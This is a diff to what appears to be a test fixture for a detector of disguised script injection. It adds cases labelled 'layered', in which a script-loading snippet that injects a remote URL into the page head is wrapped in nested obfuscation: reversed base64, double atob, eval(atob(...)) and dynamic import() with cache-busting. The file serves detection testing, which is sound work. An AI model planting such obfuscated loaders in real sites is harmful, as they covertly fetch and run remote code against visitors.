@@ -15,8 +15,8 @@ TAG = "document.createElement('script')"
 ADD = "document.head.appendChild(s);"
 LOADS = f"var s={TAG};s.src={HIDDEN};{ADD}"
 EVADING = {
-    "aside", "flagged", "fresh", "invisible", "masks", "reports", "retries", "seeks", "shy",
-    "spread", "worked",
+    "aside", "flagged", "fresh", "invisible", "layered", "masks", "reports", "retries", "seeks",
+    "shy", "spread", "worked",
 }  # fmt: skip
 HASH = "136c1e07507f4a97"
 MENU = (
@@ -60,6 +60,16 @@ def loads(address: str) -> str:
         (loads(f"{HIDDEN}+location.href"), set()),
         ("if(document.referrer){" + LOADS + "}", set()),
         ("var referrer='x';" + loads(f"{HIDDEN}+referrer"), set()),
+        # One disguise within another.
+        (loads(f"atob('{b64(URL[::-1])}').split('').reverse().join('')"), {"layered"}),
+        (loads(f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))"), {"layered"}),
+        (loads(f"window.atob(window.atob('{b64(b64(URL))}'))"), {"layered"}),
+        (f"eval(atob('{b64(LOADS)}'))", {"layered"}),
+        (f"import(atob('{b64(URL)[::-1]}'.split('').reverse().join('')))", {"layered"}),
+        (f"import({HIDDEN}+'?'+Date.now())", {"fresh"}),
+        (f"eval(atob('{b64(loads(repr(URL)))}'))", set()),
+        (loads(f"atob('{b64(URL)[:9]}'+'{b64(URL)[9:]}')"), set()),
+        (f"import({HIDDEN})", set()),
         # A note by a name of chance.
         (f"if(!window['{HASH}']){{window['{HASH}']=1;{LOADS}}}", {"flagged"}),
         (f"var k='{HASH}';if(!self[k]){{self[k]=1;{LOADS}}}", {"flagged"}),
